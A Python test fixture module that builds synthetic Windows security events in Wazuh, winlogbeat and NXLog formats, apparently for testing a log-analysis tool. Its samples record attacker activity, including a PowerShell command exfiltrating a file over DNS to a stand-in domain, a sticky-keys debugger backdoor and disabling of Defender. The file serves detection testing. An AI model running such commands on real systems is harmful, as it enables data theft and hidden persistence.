"""Realistic Windows events in the shapes dcops reads: Wazuh alerts.json, winlogbeat, NXLog."""

# ruff: noqa: E501 - real event values (registry paths, script blocks) are longer than a line

from __future__ import annotations

import json
from typing import Any

AGENT = {"id": "017", "name": "ub-ketoan-pc07", "ip": "10.20.7.17"}


def doubled(v: Any) -> Any:
    """Backslashes written twice, as Wazuh 4.x writes eventchannel values (wazuh issue 4509)."""
    if isinstance(v, dict):
        return {k: doubled(x) for k, x in v.items()}
    return v.replace("\\", "\\\\") if isinstance(v, str) else v


def wazuh_alert(
    rule_id: str, level: int, description: str, groups: list[str], win: dict[str, Any]
) -> dict[str, Any]:
    """A Wazuh 4.x alerts.json alert from the windows_eventchannel decoder (values as Wazuh
    writes them: backslashes doubled)."""
    win = doubled(win)
    return {
        "timestamp": "2026-11-24T09:12:31.482+0700",
        "rule": {"level": level, "description": description, "id": rule_id, "firedtimes": 1,
                 "mail": False, "groups": groups},
        "agent": AGENT,
        "manager": {"name": "wazuh-manager"},
        "id": f"1763950351.{rule_id}{level}",
        "decoder": {"name": "windows_eventchannel"},
        "data": {"win": win},
        "location": "EventChannel",
    }  # fmt: skip


def _system(eid: str, channel: str, provider: str, record: str) -> dict[str, Any]:
    return {
        "providerName": provider,
        "providerGuid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
        "eventID": eid,
        "version": "5",
        "level": "4",
        "task": "1",
        "opcode": "0",
        "keywords": "0x8000000000000000",
        "systemTime": "2026-11-24T02:12:30.9951234Z",
        "eventRecordID": record,
        "processID": "3140",
        "threadID": "4216",
        "channel": channel,
        "computer": "UB-KETOAN-PC07.dongnai.gov.vn",
        "severityValue": "INFORMATION",
        "message": '"Process Create: ..."',
    }


SYSMON = "Microsoft-Windows-Sysmon/Operational"
SYSMON_PROVIDER = "Microsoft-Windows-Sysmon"

# Sysmon 1: findstr searching the process list for lsass (credential dumping recon)
WAZUH_SYSMON_1 = wazuh_alert("92052", 4, "Sysmon - Process creation", ["sysmon", "sysmon_eid1_detections", "windows"], {
    "system": _system("1", SYSMON, SYSMON_PROVIDER, "884213"),
    "eventdata": {
        "ruleName": "technique_id=T1057,technique_name=Process Discovery",
        "utcTime": "2026-11-24 02:12:30.994",
        "processGuid": "{3a9f1e2b-9d2e-6742-5b04-000000002e00}",
        "processId": "7212",
        "image": "C:\\Windows\\System32\\findstr.exe",
        "fileVersion": "10.0.19041.1 (WinBuild.160101.0800)",
        "description": "Find String (QGREP) Utility",
        "product": "Microsoft® Windows® Operating System",
        "company": "Microsoft Corporation",
        "originalFileName": "FINDSTR.EXE",
        "commandLine": "findstr  /i lsass",
        "currentDirectory": "C:\\Users\\nguyenvana\\",
        "user": "DONGNAI\\nguyenvana",
        "logonGuid": "{3a9f1e2b-9b11-6742-2a8f-0c0000000000}",
        "logonId": "0xc8f2a",
        "terminalSessionId": "1",
        "integrityLevel": "Medium",
        "hashes": "SHA256=B7B5B1E0C7A8E9F6B1D7E1E6C0C2A0E1C6D6A2E2E1E4D3C7B5A1F0E9D8C7B6A5",
        "parentProcessGuid": "{3a9f1e2b-9d2e-6742-5a04-000000002e00}",
        "parentProcessId": "6900",
        "parentImage": "C:\\Windows\\System32\\cmd.exe",
        "parentCommandLine": "cmd.exe /c tasklist | findstr /i lsass",
        "parentUser": "DONGNAI\\nguyenvana",
    },
})  # fmt: skip

# Sysmon 13: the sticky-keys debugger backdoor (SigmaHQ has it as a registry_event rule)
WAZUH_SYSMON_13 = wazuh_alert("92302", 6, "Sysmon - Registry value set", ["sysmon", "windows"], {
    "system": _system("13", SYSMON, SYSMON_PROVIDER, "884290"),
    "eventdata": {
        "ruleName": "technique_id=T1546.008,technique_name=Accessibility Features",
        "eventType": "SetValue",
        "utcTime": "2026-11-24 02:14:02.117",
        "processGuid": "{3a9f1e2b-9d7a-6742-6104-000000002e00}",
        "processId": "8120",
        "image": "C:\\Windows\\regedit.exe",
        "targetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger",
        "details": "C:\\Windows\\System32\\cmd.exe",
        "user": "DONGNAI\\nguyenvana",
    },
})  # fmt: skip

# Sysmon 12 deleting a key
WAZUH_SYSMON_12_DELETE = wazuh_alert("92300", 3, "Sysmon - Registry object deleted", ["sysmon"], {
    "system": _system("12", SYSMON, SYSMON_PROVIDER, "884291"),
    "eventdata": {
        "eventType": "DeleteKey",
        "image": "C:\\Windows\\System32\\reg.exe",
        "targetObject": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Exclusions\\Paths",
        "user": "NT AUTHORITY\\SYSTEM",
    },
})  # fmt: skip

# Security 4732: a user added to the local Administrators group
WAZUH_SECURITY_4732 = wazuh_alert("60154", 12, "Administrators Group Changed", ["windows", "group_changed"], {
    "system": _system("4732", "Security", "Microsoft-Windows-Security-Auditing", "1720551"),
    "eventdata": {
        "memberName": "-",
        "memberSid": "S-1-5-21-3623811015-3361044348-30300820-1013",
        "targetUserName": "Administrators",
        "targetDomainName": "Builtin",
        "targetSid": "S-1-5-32-544",
        "subjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-500",
        "subjectUserName": "admin.it",
        "subjectDomainName": "DONGNAI",
        "subjectLogonId": "0x3e7a21",
        "privilegeList": "-",
    },
})  # fmt: skip

# Security 4688 (process creation audit, no Sysmon): whoami /all
WAZUH_SECURITY_4688 = wazuh_alert("60103", 3, "Windows audit: new process", ["windows"], {
    "system": _system("4688", "Security", "Microsoft-Windows-Security-Auditing", "1720560"),
    "eventdata": {
        "subjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-1107",
        "subjectUserName": "nguyenvana",
        "subjectDomainName": "DONGNAI",
        "subjectLogonId": "0xc8f2a",
        "newProcessId": "0x1c2c",
        "newProcessName": "C:\\Windows\\System32\\whoami.exe",
        "tokenElevationType": "%%1938",
        "processId": "0x1af4",
        "commandLine": "whoami /all",
        "targetUserSid": "S-1-0-0",
        "mandatoryLabel": "S-1-16-8192",
        "parentProcessName": "C:\\Windows\\System32\\cmd.exe",
    },
})  # fmt: skip

# PowerShell 4104 script block
WAZUH_PS_4104 = wazuh_alert("91802", 4, "Powershell script block", ["windows", "powershell"], {
    "system": _system("4104", "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", "55120"),
    "eventdata": {
        "messageNumber": "1",
        "messageTotal": "1",
        "scriptBlockText": "Invoke-DNSExfiltrator -i C:\\temp\\hoso.zip -d exfil.example -p Pass123 -doh cloudflare -t 500",
        "scriptBlockId": "7d4c1f2a-2b1e-4d9c-9a51-9e3f0c5b2d11",
        "path": "C:\\Users\\nguyenvana\\Downloads\\x.ps1",
    },
})  # fmt: skip

# Windows Defender 5001: real-time protection disabled (event data names with spaces)
WAZUH_DEFENDER_5001 = wazuh_alert("62152", 12, "Windows Defender: real-time protection disabled", ["windows", "windows_defender"], {
    "system": _system("5001", "Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", "9041"),
    "eventdata": {"product Name": "Microsoft Defender Antivirus", "product Version": "4.18.24090.11"},
})  # fmt: skip

# winlogbeat 8 (ECS): Sysmon 22 DNS query
WINLOGBEAT_SYSMON_22 = {
    "@timestamp": "2026-11-24T02:20:11.512Z",
    "agent": {"type": "winlogbeat", "version": "8.15.3"},
    "event": {"code": "22", "kind": "event", "provider": SYSMON_PROVIDER, "created": "2026-11-24T02:20:12.9Z"},
    "host": {"name": "ub-vanthu-pc02"},
    "message": "Dns query:\nRuleName: -\nQueryName: dl.anonfiles.com",
    "winlog": {
        "channel": SYSMON,
        "computer_name": "UB-VANTHU-PC02.dongnai.gov.vn",
        "event_id": "22",
        "provider_name": SYSMON_PROVIDER,
        "record_id": 113942,
        "event_data": {
            "RuleName": "-",
            "UtcTime": "2026-11-24 02:20:11.500",
            "ProcessGuid": "{5b1c2d3e-1a2b-6743-7f00-000000003100}",
            "ProcessId": "4412",
            "QueryName": "dl.anonfiles.com",
            "QueryStatus": "0",
            "QueryResults": "::ffff:45.154.253.150;",
            "Image": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "User": "DONGNAI\\tranthib",
        },
        "process": {"pid": 3140, "thread": {"id": 4020}},
    },
}  # fmt: skip

# winlogbeat 6 (top-level names): Security 4624
WINLOGBEAT6_4624 = {
    "@timestamp": "2026-11-24T02:21:00.000Z",
    "beat": {"name": "DC01", "version": "6.8.23"},
    "computer_name": "DC01.dongnai.gov.vn",
    "event_id": 4624,
    "log_name": "Security",
    "source_name": "Microsoft-Windows-Security-Auditing",
    "record_number": "9912003",
    "event_data": {"TargetUserName": "admin.it", "LogonType": "10", "IpAddress": "10.20.7.17"},
    "message": "An account was successfully logged on.",
}

# winlogbeat 8: Windows PowerShell (classic) 400, the engine started as version 2 (downgrade)
WINLOGBEAT_PS_400 = {
    "@timestamp": "2026-11-24T02:25:40.100Z",
    "event": {"code": "400", "provider": "PowerShell"},
    "host": {"name": "ub-ketoan-pc07"},
    "winlog": {
        "channel": "Windows PowerShell",
        "computer_name": "UB-KETOAN-PC07.dongnai.gov.vn",
        "event_id": 400,
        "provider_name": "PowerShell",
        "record_id": 20411,
        "event_data": {
            "param1": "Available",
            "param2": "None",
            "param3": "\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n"
                      "\tSequenceNumber=13\r\n\r\n\tHostName=ConsoleHost\r\n"
                      "\tHostVersion=5.1.19041.4648\r\n\tHostId=2b1f0c1e-4f7a-4f65-9b3e-0d5c2a7e9f11\r\n"
                      "\tHostApplication=powershell.exe -Version 2 -NoProfile\r\n"
                      "\tEngineVersion=2.0\r\n\tRunspaceId=7f3c9d2a-1b4e-4c8f-a6d2-5e9b0c3f1a77\r\n",
        },
    },
}

# NXLog im_msvistalog + to_json: Sysmon 12, a disk-cleanup handler key added (persistence);
# event data side by side with NXLog's names (here
# EventType is Sysmon's CreateKey, not NXLog's level)
NXLOG_SYSMON_12 = {
    "EventTime": "2026-11-24 09:30:01",
    "Hostname": "UB-TAICHINH-SRV1.dongnai.gov.vn",
    "Keywords": -9223372036854775808,
    "EventType": "CreateKey",
    "SeverityValue": 2,
    "Severity": "INFO",
    "EventID": 12,
    "SourceName": SYSMON_PROVIDER,
    "ProviderGuid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
    "Version": 2,
    "Task": 12,
    "OpcodeValue": 0,
    "RecordNumber": 55121,
    "ProcessID": 2900,
    "ThreadID": 3912,
    "Channel": SYSMON,
    "Domain": "NT AUTHORITY",
    "AccountName": "SYSTEM",
    "UserID": "S-1-5-18",
    "AccountType": "User",
    "Message": "Registry object added or deleted: ...",
    "Category": "Registry object added or deleted (rule: RegistryEvent)",
    "Opcode": "Info",
    "RuleName": "-",
    "UtcTime": "2026-11-24 02:30:01.004",
    "ProcessGuid": "{6c1d2e3f-2b3c-6743-8a00-000000003200}",
    "Image": "C:\\Windows\\System32\\reg.exe",
    "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\VolumeCaches\\LgspTmp",
    "EventReceivedTime": "2026-11-24 09:30:02",
    "SourceModuleName": "eventlog",
    "SourceModuleType": "im_msvistalog",
}

# NXLog: Security 4732 (NXLog's EventType is the audit level)
NXLOG_SECURITY_4732 = {
    "EventTime": "2026-11-24 09:31:00",
    "Hostname": "DC01.dongnai.gov.vn",
    "EventType": "AUDIT_SUCCESS",
    "EventID": 4732,
    "SourceName": "Microsoft-Windows-Security-Auditing",
    "Channel": "Security",
    "Message": "A member was added to a security-enabled local group.",
    "TargetUserName": "Administrators",
    "TargetSid": "S-1-5-32-544",
    "SubjectUserName": "admin.it",
    "SubjectDomainName": "DONGNAI",
    "MemberSid": "S-1-5-21-3623811015-3361044348-30300820-1013",
}


def line(doc: dict[str, Any]) -> str:
    """One JSON line, as alerts.json or an export file holds it."""
    return json.dumps(doc, ensure_ascii=False)
